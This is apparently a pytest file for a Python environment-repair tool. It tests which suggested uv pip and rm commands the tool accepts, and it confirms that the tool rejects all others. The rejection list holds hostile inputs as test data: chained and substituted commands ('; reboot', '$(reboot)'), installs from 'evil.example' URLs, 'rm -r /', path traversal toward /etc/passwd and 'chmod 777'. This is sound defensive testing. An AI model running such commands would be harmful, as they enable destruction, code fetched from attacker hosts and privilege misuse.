"""Commands of remedies, taken apart: what may be run, and what never."""

from __future__ import annotations

from typing import TYPE_CHECKING

import pytest
from hypothesis import given
from hypothesis import strategies as st

from envdoctor.actions import Action, Reach, reach_of, understand
from envdoctor.facts import (
    CacheEntry,
    CacheFolder,
    CachesFact,
    FactSet,
    InterpreterFact,
    PolicyFact,
)

if TYPE_CHECKING:
    from pathlib import Path

INSTALL = "uv pip install --python /env/bin/python --reinstall --no-deps"
UNINSTALL = "uv pip uninstall --python /env/bin/python"
ADD = "uv pip install --python /env/bin/python"
TORCH_INDEX = "https://download.pytorch.org/whl/cu130"
PIP_INSTALL = ("pip", "install", "--python", "/env/bin/python", "--reinstall", "--no-deps")


def reach(*folders: str, entries: tuple[str, ...] = ()) -> Reach:
    folder = CacheFolder(
        kind="triton",
        path="/cache",
        entries=tuple(CacheEntry(path=path, modified=0) for path in entries),
    )
    return reach_of(
        FactSet(
            [
                PolicyFact(pip_install=INSTALL, pip_uninstall=UNINSTALL),
                InterpreterFact(
                    prefix="/env",
                    python="/env/bin/python",
                    version="3.11",
                    is_venv=True,
                    site_packages=folders,
                ),
                CachesFact(folders=(folder,)),
            ]
        )
    )


@pytest.mark.parametrize(
    ("command", "arguments"),
    [
        (f"{INSTALL} torch==2.10.0", (*PIP_INSTALL, "torch==2.10.0")),
        (f"{INSTALL} 'triton~=3.8.0'", (*PIP_INSTALL, "triton~=3.8.0")),
        (f"{INSTALL} 'a<=1.1,>=1' b", (*PIP_INSTALL, "a<=1.1,>=1", "b")),
        (
            f"{INSTALL} --index-url {TORCH_INDEX} torch==2.11.0+cu130",
            (*PIP_INSTALL, "--index-url", TORCH_INDEX, "torch==2.11.0+cu130"),
        ),
        (f"{ADD} --upgrade flash-attn 'torch==2.9.1'", None),
        (f"{UNINSTALL} a b-c", ("pip", "uninstall", "--python", "/env/bin/python", "a", "b-c")),
        (f"/x/python -m {INSTALL} torch==2.10.0", (*PIP_INSTALL, "torch==2.10.0")),
    ],
)
def test_commands_of_uv_become_arguments(command: str, arguments: tuple[str, ...] | None) -> None:
    action = understand(command, reach())
    assert action is not None
    assert action.program == "uv"
    assert arguments is None or action.arguments == arguments


@pytest.mark.parametrize(
    "command",
    [
        "",
        "sudo reboot",
        "envdoctor build --profile cu128",
        "unset LD_LIBRARY_PATH",
        "kill 17",
        INSTALL,
        UNINSTALL,
        f"{INSTALL} torch==2.10.0; reboot",
        f"{INSTALL} torch==2.10.0 && reboot",
        f"{INSTALL} $(reboot)",
        f"{INSTALL} `reboot`",
        f"{INSTALL} torch==2.10.0 --index-url http://evil.example/",
        f"{INSTALL} --index-url http://evil.example/ torch==2.10.0",
        f"{INSTALL} --index-url {TORCH_INDEX}",
        f"{INSTALL} ./torch.whl",
        f"{INSTALL} https://evil.example/torch.whl",
        f"{INSTALL} 'torch @ https://evil.example/torch.whl'",
        f"{INSTALL} -r requirements.txt",
        f"{UNINSTALL} --system torch",
        f"{UNINSTALL} torch==2.10.0",
        "uv pip install --python /other/bin/python --reinstall --no-deps torch==2.10.0",
        "uv pip uninstall --python /other/bin/python torch",
        f"{INSTALL} 'unbalanced",
        "rm",
        "rm -r",
        "rm -r /",
        "rm -r /env",
        "rm -rf /env/lib/site-packages/torch",
        "rm -r /env/lib/site-packages",
        "rm -r /env/lib/site-packages/",
        "rm -r /env/lib/site-packages/../../etc",
        "rm -r /env/lib/site-packages-other/x",
        "rm -r /env/lib/site-packages/x /etc/passwd",
        "rm -r lib/site-packages/x",
        "rm -r ~/.triton/cache",
        "rm -r /cache",
        "rm -r /cache/KEY/../OTHER",
        "chmod 777 /env/lib/site-packages/x",
        "chmod 755 /etc/passwd",
    ],
)
def test_everything_else_is_left_to_a_person(command: str) -> None:
    assert (
        understand(command, reach("/env/lib/site-packages", entries=("/cache/KEY/k.json",))) is None
    )


def test_removal_below_the_package_folders(tmp_path: Path) -> None:
    site = tmp_path / "site-packages"
    (site / "torch-2.8.0.dist-info").mkdir(parents=True)
    action = understand(f"rm -r {site}/torch-2.8.0.dist-info", reach(str(site)))
    assert action == Action("rm", ("-r", "--", f"{site}/torch-2.8.0.dist-info"))


def test_link_out_of_the_package_folders_is_not_followed(tmp_path: Path) -> None:
    site = tmp_path / "site-packages"
    site.mkdir()
    (site / "away").symlink_to("/etc")
    assert understand(f"rm -r {site}/away/passwd", reach(str(site))) is None
    assert understand(f"rm -r {site}/away", reach(str(site))) is not None


def test_stars_are_names_and_no_patterns(tmp_path: Path) -> None:
    action = understand(f"rm -r '{tmp_path}/*'", reach(str(tmp_path)))
    assert action == Action("rm", ("-r", "--", f"{tmp_path}/*"))


@pytest.mark.parametrize("path", ["/cache/KEY", "/cache/KEY/k.json"])
def test_entries_of_a_cache_may_go(path: str) -> None:
    assert understand(f"rm -r {path}", reach(entries=("/cache/KEY/k.json",))) is not None


@given(st.text(max_size=60))
def test_any_text_is_understood_or_not(text: str) -> None:
    for command in (text, f"{INSTALL} {text}", f"{UNINSTALL} {text}", f"rm -r {text}"):
        action = understand(command, reach("/env/lib/site-packages"))
        assert action is None or all("://" not in word for word in action.arguments)
